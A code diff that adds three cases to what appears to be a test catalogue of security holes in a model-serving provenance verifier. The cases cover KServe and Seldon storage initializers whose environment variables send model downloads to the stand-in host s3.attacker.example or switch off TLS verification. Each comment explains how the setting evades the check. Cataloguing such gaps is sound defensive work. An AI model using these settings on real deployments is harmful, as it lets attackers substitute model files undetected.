@@ -1174,6 +1174,51 @@ export const HOLES: ReviewCase[] = [
     "src/workloads/env.ts:47-49 with src/workloads/extract.ts:379 (a template's pod meta inherits the object's name; labels and annotations of the object are merged in too, although pods get only the template's)",
   ),
 
+  // ── source-provenance: download clients configured wholesale from the environment ──────────────────
+  hole(
+    'H99',
+    'source-provenance',
+    'KServe storage initializer with STORAGE_CONFIG (a storage configuration with another endpoint)',
+    downloaded({
+      name: 'storage-initializer',
+      image: SI,
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [
+        {
+          name: 'STORAGE_CONFIG',
+          value: '{"type": "s3", "bucket": "models-prod", "endpoint_url": "https://s3.attacker.example"}',
+        },
+      ],
+    }),
+    "KServe's storage initializer reads the whole storage configuration — type, bucket, endpoint_url — from STORAGE_CONFIG (what a storage Secret injects) and STORAGE_OVERRIDE_CONFIG: the allowed bucket's name now downloads the deployer's files, whose digest they declared (prod signs nothing), and the verifier agrees. H17 with the JSON form of the endpoint",
+    "src/workloads/servers.ts:105-124 (DOWNLOAD_ENV lists single endpoint variables; KServe's STORAGE_CONFIG and STORAGE_OVERRIDE_CONFIG are not among them). Class: every variable that configures the download client's endpoint, remote or transport is a redirect for unbound models",
+  ),
+  hole(
+    'H100',
+    'source-provenance',
+    "Seldon's rclone initializer with RCLONE_CONFIG_S3_ENDPOINT",
+    downloaded({
+      name: 'rclone-initializer',
+      image: img('seldonio/rclone-storage-initializer'),
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [{ name: 'RCLONE_CONFIG_S3_ENDPOINT', value: 'https://s3.attacker.example' }],
+    }),
+    'rclone configures a remote entirely from RCLONE_CONFIG_<REMOTE>_* variables (type, endpoint, url): the remote "s3" now points at the deployer\'s server',
+    'as H99 (src/workloads/servers.ts:105-124: no prefix-named download settings)',
+  ),
+  hole(
+    'H101',
+    'source-provenance',
+    'KServe storage initializer with S3_VERIFY_SSL=0 (TLS not verified)',
+    downloaded({
+      name: 'storage-initializer',
+      image: SI,
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [{ name: 'S3_VERIFY_SSL', value: '0' }],
+    }),
+    "with certificate verification off (or S3_USE_HTTPS=0, PYTHONHTTPSVERIFY=0), anyone on the network path — a pod on the node with NET_ADMIN and hostNetwork, a compromised proxy — serves the allowed bucket's bytes",
+    'as H99 (src/workloads/servers.ts:105-124; S3_USE_HTTPS was read only to qualify an explicit S3_ENDPOINT, downloads.ts:13-18)',
+  ),
   // ── cross-pod-integrity ────────────────────────────────────────────────────────────────────────────
   hole(
     'H59',
